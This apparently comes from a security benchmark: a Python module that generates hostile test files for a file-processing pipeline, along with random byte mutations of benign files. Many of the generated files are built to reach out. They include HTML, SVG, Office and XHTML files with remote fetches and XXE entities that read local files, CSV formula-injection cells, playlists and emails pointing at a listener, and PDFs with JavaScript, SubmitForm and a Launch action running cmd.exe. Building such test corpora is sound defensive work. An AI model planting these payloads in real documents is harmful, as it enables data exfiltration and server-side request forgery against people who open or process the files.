"""Files that try to reach out, and mutations of sound files: both the same for every run with one seed.

for file in reaching(address, secret_file): ...   # each names a listener, or a file that is not its sender's
for file in mutated(seed, 100): ...                # sound files with bytes changed, cut, doubled or taken away
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, Final, Literal

from deepwell_bench.workloads.hostile_headers import sound_model
from deepwell_bench.workloads.knowledge.hostile_documents.office import sound_office_files

__all__ = ["Kind", "SentFile", "mutated", "mutated_models", "reaching", "sound_files"]

Kind = Literal["document", "image", "sound", "model"]

_LARGE: Final = (b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\xff\xff\xff\x7f", b"\0\0\0\0", b"\0\0\0\x80")
_MOST_CHANGES: Final = 8


@dataclass(frozen=True, slots=True)
class SentFile:
    """A file to send: `name` ends as its format's names do."""

    name: str
    kind: Kind
    data: bytes


def reaching(address: str, secret: str) -> Iterator[SentFile]:
    """Yields documents, images and playlists that name an address or a file.

    Args:
        address: URL of a listener that nobody may call, without a slash at its end.
        secret: path of a file that nobody may read.
    """
    file = f"file://{secret}"
    for name, text in _pages(address, file):
        yield SentFile(name, "document", text.encode())
    for name, data in _office(address, file):
        yield SentFile(name, "document", data)
    for name, data in _pdfs(address, secret):
        yield SentFile(name, "document", data)
    for name, text in (
        ("remote.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}/a.png"/></svg>'),
        ("entity.svg", f'<!DOCTYPE s [<!ENTITY x SYSTEM "{file}">]><svg><text>&x;</text></svg>'),
        ("remote.png", f"push graphic-context\nimage over 0,0 0,0 '{address}/a.png'\n"),
        ("remote.eps.png", f"%!PS\n({secret}) (r) file pop\n"),
    ):
        yield SentFile(name, "image", text.encode())
    for name, text in (
        ("remote.m3u8", f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{address}/a.ts\n#EXT-X-ENDLIST\n"),
        ("local.m3u8", f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{file}\n#EXT-X-ENDLIST\n"),
        ("key.m3u8", f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{address}/k"\n#EXTINF:9,\n{file}\n'),
        ("remote.ffconcat", f"ffconcat version 1.0\nfile {address}/a.wav\nfile {secret}\n"),
        ("remote.pls", f"[playlist]\nFile1={address}/a.mp3\nLength1=-1\n"),
        ("remote.mpd", f'<?xml version="1.0"?><MPD type="static"><BaseURL>{address}/</BaseURL></MPD>'),
        (
            "remote.wpl",
            f'<?wpl version="1.0"?><smil><body><seq><media src="{address}/a"/></seq></body></smil>',
        ),
        ("remote.asx", f'<asx version="3.0"><entry><ref href="{address}/a"/></entry></asx>'),
        ("remote.mp3", f"#EXTM3U\n{address}/a.mp3\n"),
    ):
        yield SentFile(name, "sound", text.encode())


def _pages(address: str, file: str) -> Iterator[tuple[str, str]]:
    entity = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{{}}"><!ENTITY % p SYSTEM "{address}/d"> %p;]>'
    )
    for name, body in (
        (
            "images",
            f'<img src="{address}/a.png"><img srcset="{address}/b.png 2x"><picture><source src="{address}/c">',
        ),
        ("frames", f'<iframe src="{address}/a"></iframe><object data="{file}"></object><embed src="{file}">'),
        ("styles", f'<link rel=stylesheet href="{address}/a.css"><style>@import "{address}/b.css"</style>'),
        ("scripts", f'<script src="{address}/a.js"></script><script>fetch("{address}/b")</script>'),
        ("refresh", f'<meta http-equiv=refresh content="0;url={address}/a"><base href="{address}/">'),
        ("forms", f'<form action="{address}/a"><input autofocus onfocus="fetch(\'{address}\')"></form>'),
        ("hints", f'<link rel=prefetch href="{address}/a"><link rel=dns-prefetch href="//canary.invalid">'),
        ("frame of a file", f'<iframe src="{file}"></iframe><link rel=import href="{file}">'),
    ):
        yield f"{name}.html", f"<html><body><p>words</p>{body}<p>more words</p></body></html>"
    yield "entity.html", entity.format(file) + "<html><p>words &x;</p></html>"
    yield "entity.xhtml", entity.format(f"{address}/x") + "<html><p>words &x;</p></html>"
    yield (
        "images.md",
        f"# A title\n\n![a]({address}/a.png) [b]({file}) <img src='{address}/c'>\n\n{{% include {file} %}}\n",
    )
    yield "include.md", f'# A title\n\n--8<-- "{file}"\n\n.. include:: {file}\n\n\\input{{{file}}}\n'
    yield (
        "formulas.csv",
        f'a,b\n"=WEBSERVICE(""{address}/a"")","=HYPERLINK(""{file}"")"\n=IMPORTDATA("{address}"),x\n',
    )
    yield "references.json", f'{{"$ref": "{address}/a", "@context": "{address}/c", "$include": "{file}"}}\n'
    yield (
        "remote.eml",
        (
            "From: a@example.org\nTo: b@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: text/html\n"
            f"Disposition-Notification-To: {address}\n\n<html><img src='{address}/a.png'><p>words\n"
        ),
    )
    yield (
        "external-body.eml",
        (
            "From: a@example.org\nSubject: s\nMIME-Version: 1.0\n"
            f'Content-Type: message/external-body; access-type=URL; URL="{address}/a"\n\nContent-Type: text/plain\n\nwords\n'
        ),
    )
    yield (
        "local-body.eml",
        (
            "From: a@example.org\nSubject: s\nMIME-Version: 1.0\n"
            f'Content-Type: message/external-body; access-type=local-file; name="{file}"\n\nContent-Type: text/plain\n\nw\n'
        ),
    )


def _changed(data: bytes, change: Callable[[str, str], str], extra: dict[str, str]) -> bytes:
    """Returns an archive whose texts are changed, with further members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        texts = {name: change(name, old.read(name).decode()) for name in old.namelist()}
        for name, text in (texts | extra).items():
            new.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)  # of one date, for every run
    return out.getvalue()


def _office(address: str, file: str) -> Iterator[tuple[str, bytes]]:
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    for suffix, data in sound_office_files().items():
        for name, kind, target in (
            ("template", "attachedTemplate", f"{address}/a.dotm"),
            ("image", "image", f"{address}/a.png"),
            ("frame", "frame", f"{address}/a"),
            ("object", "oleObject", file),
            ("link", "externalLink", file),
        ):
            row = f'<Relationship Id="rId99" Type="{kinds}/{kind}" Target="{target}" TargetMode="External"/>'

            def relate(part: str, text: str, row: str = row) -> str:
                return text.replace(head, head + row) if part.endswith(".rels") else text

            extra = (
                {"word/_rels/settings.xml.rels": f"{head}{row}</Relationships>"} if suffix == "docx" else {}
            )
            yield f"{name}.{suffix}", _changed(data, relate, extra)
        for name, target in (("entity", file), ("remote entity", f"{address}/x")):
            kind = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{target}">]>'

            def declare(part: str, text: str, kind: str = kind) -> str:
                text = re.sub(r"(<\?xml[^>]*\?>)", rf"\1{kind}", text, count=1)
                return (
                    re.sub(r">([Ww]ords? ?[^<]*|word)<", ">&x;<", text, count=1)
                    if "rels" not in part
                    else text
                )

            yield f"{name}.{suffix}", _changed(data, declare, {})


def _pdf(catalog: str, page: str = "", *objects: str) -> bytes:
    """Returns a PDF of one page with a line of text."""
    text = "BT /F 12 Tf 72 700 Td (Words of a page) Tj ET"
    parts = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>> {page}>>",
        f"<</Length {len(text)}>>stream\n{text}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *objects,
    ]
    out, places = b"%PDF-1.7\n", list[int]()
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += f"{number} 0 obj{part}endobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    return (
        out
        + (
            f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{table}"
            f"trailer<</Size {len(parts) + 1}/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF"
        ).encode()
    )


def _pdfs(address: str, secret: str) -> Iterator[tuple[str, bytes]]:
    actions = {
        "uri": f"<</S/URI/URI({address}/a)>>",
        "script": f"<</S/JavaScript/JS(app.launchURL\\('{address}/a'\\);)>>",
        "launch": f"<</S/Launch/F({secret})/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "remote": f"<</S/GoToR/F<</FS/URL/F({address}/a.pdf)>>/D[0/Fit]>>",
        "embedded": f"<</S/GoToE/F({secret})/D[0/Fit]>>",
        "submit": f"<</S/SubmitForm/F<</FS/URL/F({address}/a)>>/Flags 4>>",
        "import": f"<</S/ImportData/F({secret})>>",
        "sound": f"<</S/Sound/Sound<</F({secret})>>>>",
        "movie": f"<</S/Rendition/R<</C<</D<</FS/URL/F({address}/a)>>>>>>>>",
    }
    for name, action in actions.items():
        yield f"open-{name}.pdf", _pdf(f"/OpenAction{action}/AA<</WC{action}>>", f"/AA<</O{action}>>")
    yield "stream-of-a-file.pdf", _pdf("", "", f"<</F({secret})/Length 0>>stream\n\nendstream")
    yield (
        "font-of-a-file.pdf",
        _pdf("", "/Annots[<</Subtype/FileAttachment/FS 6 0 R>>]", f"<</Type/Filespec/F({secret})>>"),
    )
    yield (
        "form.pdf",
        _pdf(f'/AcroForm<</Fields[]/XFA(<!DOCTYPE x [<!ENTITY x SYSTEM "{address}/a">]><x>&x;</x>)>>'),
    )


def sound_files() -> list[SentFile]:
    """Returns small sound files of every format."""
    found = [
        SentFile(f"sound.{suffix}", "document", _changed(data, lambda _, text: text, {}))
        for suffix, data in sound_office_files().items()
    ]
    texts = {
        "html": "<html><body><h1>Title</h1><table><tr><td>a<td>b</table><p>Words of a page</body></html>",
        "md": "# Title\n\n| a | b |\n|---|---|\n| c | d |\n\n```\ncode\n```\n",
        "csv": 'name,value\n"a, b",1\nc,2\n',
        "jsonl": '{"name": "a", "value": [1, {"b": null}]}\n{"name": "c"}\n',
        "eml": "From: a@example.org\nSubject: =?utf-8?B?YQ==?=\nMIME-Version: 1.0\nContent-Type: text/plain\n\nwords\n",
    }
    found += [SentFile(f"sound.{suffix}", "document", text.encode()) for suffix, text in texts.items()]
    found.append(SentFile("sound.pdf", "document", _pdf("")))
    found += [SentFile(f"sound.{suffix}", "image", data) for suffix, data in _images()]
    found += [SentFile(f"sound.{suffix}", "sound", data) for suffix, data in _sounds()]
    return found


def _images() -> Iterator[tuple[str, bytes]]:
    import numpy as np
    from PIL import Image

    image = Image.fromarray(np.random.default_rng(3).integers(0, 255, (48, 48, 3)).astype(np.uint8))
    options: dict[str, dict[str, Any]] = {"png": {}, "jpeg": {}, "webp": {}, "gif": {}}
    options["progressive.jpeg"] = {"progressive": True}
    options["lossless.webp"] = {"lossless": True}
    for suffix, more in options.items():
        file = io.BytesIO()
        image.save(file, suffix.rpartition(".")[2].upper(), **more)
        yield suffix, file.getvalue()


def _sounds() -> Iterator[tuple[str, bytes]]:
    import numpy as np

    from deepwell.media.speech.encode import encoder_of

    tone = (np.sin(np.arange(12_000) / 9) * 8000).astype(np.int16)
    formats: tuple[Any, ...] = (
        "wav",
        "mp3",
        "flac",
        "aac",
    )  # without ogg, whose streams are numbered by chance
    for format in formats:
        encoder = encoder_of(format, "")
        yield format, encoder.add(tone) + encoder.end()


def mutated(seed: int, count: int) -> Iterator[SentFile]:
    """Yields mutations of sound files, the formats by turns."""
    draw = random.Random(seed)  # noqa: S311
    bases = sound_files()
    for number in range(count):
        base = bases[number % len(bases)]
        stem, _, suffix = base.name.partition(".")
        yield SentFile(f"{stem}-{seed}-{number}.{suffix}", base.kind, _mutation(base.data, draw))


def mutated_models(seed: int, count: int) -> Iterator[tuple[str, dict[str, bytes]]]:
    """Yields names and files of models whose weights or configuration are mutations of a tiny sound one's."""
    draw = random.Random(seed)  # noqa: S311
    files = sound_model()
    for number in range(count):
        name = sorted(files)[number % len(files)]
        yield f"mutated-{seed}-{number}", files | {name: _mutation(files[name], draw)}


def _mutation(data: bytes, draw: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(draw.randint(1, _MOST_CHANGES)):
        if not changed:
            break
        place = draw.randrange(len(changed))
        span = draw.randint(1, max(1, len(changed) // 8))
        match draw.randrange(6):
            case 0:
                changed[place] ^= 1 << draw.randrange(8)
            case 1:
                changed[place : place + 4] = draw.choice(_LARGE)
            case 2:
                del changed[place : place + span]
            case 3:
                changed[place:place] = changed[place : place + span] * draw.randint(1, 4)
            case 4:
                changed[place : place + span] = draw.randbytes(span)
            case _:
                changed[place : place + 4] = struct.pack(draw.choice("<>") + "I", draw.randrange(1 << 32))
    return bytes(changed)
